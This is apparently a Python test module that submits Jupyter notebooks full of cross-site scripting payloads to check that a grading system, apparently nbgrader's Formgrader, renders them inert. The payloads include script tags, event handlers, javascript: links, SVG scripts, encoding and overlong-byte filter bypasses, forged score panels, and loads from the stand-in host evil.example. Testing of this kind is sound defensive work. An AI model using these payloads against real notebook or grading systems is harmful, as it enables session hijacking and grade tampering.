"""Scripts aimed at the browsers of students and of the TA, whose session could be taken over."""

import json

from nbformat.v4 import new_output

from trials.submission import Submission, attack

INERT = "it is shown as text or not at all; same score"
STEAL = "fetch('/hub/api/user').then(r => r.text()).then(alert)"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{STEAL}"><script>{STEAL}</script></svg>'
HTML = [
    f"<script>{STEAL}</script>",
    f'<img src=x onerror="{STEAL}">',
    f"<svg/onload={STEAL}>",
    f'<a href="javascript:{STEAL}">grade</a>',
    f'<a href="  jAvA&#10;script:{STEAL}">grade</a>',
    f'<iframe srcdoc="<script>{STEAL}</script>"></iframe>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={STEAL}&gt;">',
    f"<noscript><p title=\"</noscript><img src=x onerror='{STEAL}'>\">",
    f"<details open ontoggle={STEAL}><summary>x</summary></details>",
    f'<object data="data:text/html,<script>{STEAL}</script>"></object><embed src="javascript:1">',
    '<form action="/formgrader/api/x" method="post"><input type="submit" value="grade"></form>',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example">',
    "<style>.score { display: none } @import '//evil.example/x.css';</style>",
    '<div style="position:fixed;inset:0;background:url(//evil.example/x)">20 / 20</div>',
    '<img src="//evil.example/track.png"><img src="/hub/logout"><img srcset="//evil.example/y 1x">',
    '<link rel="stylesheet" href="//evil.example/x.css"><video poster="//evil.example/z"></video>',
]


@attack(INERT, stock=True)
def scripts_in_markdown(it: Submission) -> None:
    """Writes scripts, handlers, frames and forms into Markdown cells and the written answer."""
    for number, evil in enumerate(HTML):
        it.write_text_cell(f"Text {number}\n\n{evil}\n\nmore text {evil}")
    it.answer("think", "My answer. " + "\n\n".join(HTML))


@attack(INERT)
def links_in_markdown(it: Submission) -> None:
    """Writes Markdown links and pictures that run scripts or load things from elsewhere."""
    it.write_text_cell(f"""
        [grade](javascript:{STEAL}) [grade](<JaVaScRiPt:{STEAL}>) <javascript:{STEAL}>
        ![x](javascript:{STEAL}) ![x](//evil.example/track.png) ![x](data:image/svg+xml;base64,PHN2Zy8+)
        [x](data:text/html,<script>{STEAL}</script>) [ref] ![x](x.png "\\" onerror={STEAL} \\"")
        [vb](vbscript:x) [a](&#106;avascript:{STEAL})

        [ref]: javascript:{STEAL}

        | a | b |
        |---|---|
        | <img src=x onerror={STEAL}> | `<script>{STEAL}</script>` |

        ```html
        <script>harmless</script>
        ```
        ```"><script>{STEAL}</script>
        x
        ```
        """)


@attack(INERT)
def scripts_in_formulas(it: Submission) -> None:
    """Writes formulas whose commands make links, styles and elements of their own."""
    it.write_text_cell(f"""
        $\\href{{javascript:{STEAL}}}{{grade}}$ $$\\style{{position:fixed;inset:0}}{{x}}$$
        $\\class{{x}}{{y}} \\cssId{{score}}{{z}} \\unicode{{x3c}}\\require{{action}}$
        $x<script>{STEAL}</script>$ $$\\text{{<img src=x onerror={STEAL}>}}$$ \\(<svg onload={STEAL}>\\)
        \\begin{{equation}}<script>{STEAL}</script>\\end{{equation}}
        """)


@attack(INERT, stock=True)
def scripts_in_submitted_html(it: Submission) -> None:
    """Submits HTML outputs with scripts, handlers, frames, forms and styles."""
    for evil in HTML:
        it.show({"text/html": evil, "text/plain": evil})
    it.show({"text/html": ["<scr", f"ipt>{STEAL}</script>"]})


@attack(INERT)
def scripts_in_submitted_pictures(it: Submission) -> None:
    """Submits SVG pictures with scripts, and bitmaps whose data break out of the page."""
    it.show({"image/svg+xml": SVG})
    it.show({"image/png": f'"><script>{STEAL}</script>', "image/jpeg": f'x" onerror="{STEAL}'})
    it.show({"image/svg+xml": [SVG[:20], SVG[20:]], "text/plain": SVG})
    it.show(
        {"image/png": "AAAA"}, {"image/png": {"width": f'"><script>{STEAL}</script>', "height": 1}}
    )
    it.show(
        {"image/gif": "AAAA", "image/webp": "AAAA", "application/pdf": "AAAA"},
        {"alt": '"><script>'},
    )


@attack(INERT)
def scripts_in_other_outputs(it: Submission) -> None:
    """Submits JavaScript, widgets, LaTeX, Markdown and unknown kinds of output."""
    for mime in (
        *("application/javascript", "text/javascript", "text/markdown", "text/latex"),
        *("application/vnd.bokehjs_exec.v0+json", "application/vnd.plotly.v1+json", "text/x-evil"),
    ):
        it.show({mime: f"<script>{STEAL}</script> {STEAL}"})
    it.show({"application/vnd.jupyter.widget-view+json": {"model_id": "a", "version_major": 2}})
    state = {"a": {"model_module": "//evil.example/x.js", "model_name": "X", "state": {}}}
    widgets = {"state": state, "version_major": 2, "version_minor": 0}
    it.notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": widgets}


@attack(INERT)
def scripts_in_streams_and_errors(it: Submission) -> None:
    """Submits text and error outputs that close the element they stand in."""
    it.show({"text/plain": f"</pre><script>{STEAL}</script>"})
    outputs = it.notebook.cells[0]["outputs"]
    evil = f"</pre></div><script>{STEAL}</script>\x1b[31m<img src=x onerror={STEAL}>\x1b]8;;javascript:{STEAL}\x07"
    for name in ("stdout", "stderr"):
        outputs.append(new_output("stream", name=name, text=evil))
    outputs.append(new_output("error", ename=evil, evalue=evil, traceback=[evil]))


@attack(INERT)
def scripts_in_names_and_metadata(it: Submission) -> None:
    """Puts markup into cell ids, tags, names, languages, attachments and file names."""
    evil = f'"><script>{STEAL}</script>'
    cell = it.write_text_cell("![x](attachment:x.png) ![y](attachment:y)")
    cell["id"] = "x"
    cell["attachments"] = {
        "x.png": {evil: "AAAA", "image/svg+xml": SVG, f"image/png{evil}": "AAAA"},
        "y": {"image/png": evil},
    }
    for other in it.notebook.cells[1:4]:
        other.metadata.update(
            tags=[evil], name=evil, collapsed=evil, jupyter={"source_hidden": evil}
        )
    it.notebook.metadata["title"] = evil
    it.notebook.metadata["authors"] = [{"name": evil}]
    it.notebook.metadata["language_info"] = {"name": evil, "pygments_lexer": evil}


@attack(INERT)
def scripts_in_code(it: Submission) -> None:
    """Writes markup into code, comments and doc strings, in answers and cells of its own."""
    it.append("mean", f"# </pre><script>{STEAL}</script>\n'''<img src=x onerror={STEAL}>'''")
    it.run_first(f"%%html\n<script>{STEAL}</script>")
    it.run_first(f"# </div></script><script>{STEAL}</script> {{{{ 7 * 7 }}}} {{% raw %}}")


@attack("what the run shows is cleaned for the TA, too; same score", stock=True)
def scripts_shown_by_the_run(it: Submission) -> None:
    """Displays scripts, SVG and widgets while it is run, for the TA who opens it in Formgrader."""
    it.run_first(f"""
        from IPython.display import HTML, SVG, Javascript, Markdown, Latex, display
        for evil in {HTML!r}:
            display(HTML(evil), Markdown(evil), Latex(evil))
        display(Javascript({STEAL!r}), SVG(data={SVG!r}))
        display({{"text/html": {HTML[0]!r}, "image/png": '"><script>1</script>'}}, raw=True)
        display({{"application/vnd.jupyter.widget-view+json": {{"model_id": "x"}}}}, raw=True)
        raise ValueError({HTML[0]!r})
        """)


@attack("a comment from the student is only text; same score")
def forges_the_graders_page(it: Submission) -> None:
    """Imitates the page's own elements: score, comment boxes, tables of checks, links to the top."""
    it.write_text_cell("""
        <div class="panel-heading"><span class="pull-right">Score: 22.0 / 22.0</span></div>
        <textarea id="x" class="comment">Full marks</textarea><div id="score" name="score">22</div>
        """)
    it.show({"text/html": "<p><b>6 of 6 checks passed</b></p><table><tr><td>✓</td></tr></table>"})


def _written(it: Submission, source: object, **how: str) -> None:
    """Submit the notebook with a raw source for the written answer."""
    book = json.loads(json.dumps(it.notebook))
    for cell in book["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == "think":
            cell["source"] = source
    text = json.dumps(book, ensure_ascii=False)
    it.replace_file(text.encode(how.get("encoding", "utf-8"), "surrogatepass"))


@attack(INERT)
def scripts_in_lines_that_do_not_end(it: Submission) -> None:
    """Cuts scripts into lines without ends, which only become scripts when they are joined."""
    pieces = [piece for evil in HTML for piece in (evil[:3], evil[3:9], evil[9:])]
    _written(it, ["My answer.", "", *pieces, *[f"{evil}" for evil in HTML]])


@attack(INERT)
def scripts_in_other_encodings(it: Submission) -> None:
    """Hands the notebook in in UTF-16, so that no byte of a script is what a filter looks for."""
    _written(it, "My answer. " + "\n\n".join(HTML), encoding="utf-16")


@attack(INERT)
def scripts_behind_half_characters(it: Submission) -> None:
    """Writes scripts behind bytes that are no text, which another encoding reads as brackets."""
    book = json.dumps(it.notebook).encode()
    evil = b"\\n\\n".join(
        b"\xc0\xbcscript\xc0\xbe \xe0\x80\xbcimg src=x onerror=alert(1)\x8b \xff" + line.encode()
        for line in (f"<script>{STEAL}</script>", f"<img src=x onerror={STEAL}>")
    )
    place = book.index(b'"source": "') + len(b'"source": "')
    it.replace_file(book[:place] + evil + b"\\n\\n" + book[place:])


@attack(INERT, no_python=True)
def scripts_between_marks_of_a_merge(it: Submission) -> None:
    """Puts scripts where marks of a merge and of a chat have a person look at an answer."""
    evil = "\n".join(HTML)
    it.answer("scale", f"<<<<<<< <script>{STEAL}</script>\n```{evil}\n>>>>>>> {evil}")
    it.answer("think", f"<<<<<<< local\n{evil}\n=======\n```\n{evil}\n```\n>>>>>>> {evil}")
